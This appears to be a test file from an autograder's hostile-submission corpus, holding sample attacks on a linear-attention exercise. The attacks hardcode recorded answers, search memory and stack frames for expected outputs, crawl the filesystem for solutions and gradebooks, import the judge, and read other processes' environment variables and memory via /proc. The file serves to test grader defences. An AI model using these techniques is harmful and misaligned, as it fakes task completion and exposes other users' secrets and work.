"""Look for answers that somebody has, or should have."""

import gc
import glob
import os
import sys
from contextlib import suppress

import torch
from nbformat import NotebookNode

from autograder.answers import recorded_answers
from autograder.example_submissions import cell_of
from autograder.exercise import PUBLIC_SEED
from tests.hostile.corpus import ATTACKED, EXERCISES, KNOWN, WON, cell, change

SHAPE = "output has shape"


@change("drawn when this was graded", elu_feature_map=0)
def replays_what_is_recorded(notebook: NotebookNode) -> None:
    """Carries the answers to the public cases as numbers, and answers zeros elsewhere."""
    elu = EXERCISES["elu_feature_map"]
    recorded, _ = recorded_answers(elu)
    pairs = [
        (
            round(case.inputs["x"].flatten()[-1].item(), 4),
            recorded[name]["output"].flatten().tolist(),
        )
        for name, case in elu.draw(PUBLIC_SEED).items()
    ]
    cell_of(notebook, "elu_feature_map").source = "\n".join(
        [
            "import torch",
            f"RECORDED = dict({pairs!r})",
            "def elu_feature_map(x):",
            "    key = round(x.detach().flatten()[-1].item(), 4)",
            "    known = RECORDED.get(key, [0.0] * x.numel())",
            "    return x * 0 + torch.tensor(known, dtype=x.dtype).view(x.shape)",
        ]
    )


@cell(SHAPE, at=ATTACKED)
def searches_the_memory():
    """Looks for the reference and its answers in every object, module and frame."""

    def found():
        for thing in gc.get_objects():
            if isinstance(thing, dict) and "expected" in thing:
                yield thing["expected"]
        for frame in sys._current_frames().values():
            while frame:
                yield frame.f_locals.get("expected")
                frame = frame.f_back
        for name, module in list(sys.modules.items()):
            if name.startswith(("solutions", "autograder.judge", "autograder.answers")):
                yield module

    def linear_attention(q, k, v, feature_map):
        for thing in found():
            if isinstance(thing, torch.Tensor | dict) or hasattr(thing, "linear_attention"):
                print(WON, thing)
        return q


@cell(SHAPE, at=ATTACKED)
def searches_the_files():
    """Walks over all files for solutions, recorded answers, grades and other people's work."""
    WORDS = ("recorded", "solutions", "gradebook.db", "submitted", "judge.py", "nbgrader_config.py")
    SHOWN = "trained_model.safetensors"  # which notebooks load
    hits = [
        os.path.join(folder, name)
        for folder, folders, names in os.walk("/")
        if not folder.startswith(("/proc/", "/sys/"))
        for name in (*folders, *names)
        if (name in WORDS and "site-packages/" not in folder)
        or (name.endswith(".safetensors") and name != SHOWN)
    ]
    hits += [KNOWN[name] for name in ("canary", "other", "source") if os.path.exists(KNOWN[name])]
    print(f"{WON}: {hits}" if hits else "There is nothing to find")

    def linear_attention(q, k, v, feature_map):
        return q


@cell(SHAPE, at=ATTACKED)
def imports_what_decides():
    """Imports the solutions and the judge, also from where they lie on the machine."""
    import importlib

    sys.path += [KNOWN["project"], KNOWN["course"], "/", ".."]
    NAMES = ("solutions.linear_attention", "autograder.judge", "autograder.answers")
    ANSWERS = "tests.autograder.exercises.linear_attention.right_answers"
    found = []
    for name in (*NAMES, "autograder.grading.verdict", ANSWERS):
        with suppress(ImportError):
            found.append(importlib.import_module(name))
    print(f"{WON}: {found}" if found else "There is nothing to import")

    def linear_attention(q, k, v, feature_map):
        return found[0].linear_attention(q, k, v, feature_map) if found else q


@cell(SHAPE, at=ATTACKED)
def reads_other_processes():
    """Reads the environment, the command line and the memory of every process there is."""
    read = [str(dict(os.environ))]
    for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
        with suppress(OSError), open(path) as file:
            read.append(file.read())
    for path in glob.glob("/proc/[0-9]*/mem"):
        if path.split("/")[2] != str(os.getpid()):
            with suppress(OSError), open(path, "rb") as file:
                file.seek(0x400000)
                read.append(repr(file.read(10**6)))
    for path in glob.glob("/proc/[0-9]*/root"):
        with suppress(OSError):
            read += os.listdir(path + KNOWN["course"])
    print(read)

    def linear_attention(q, k, v, feature_map):
        return q
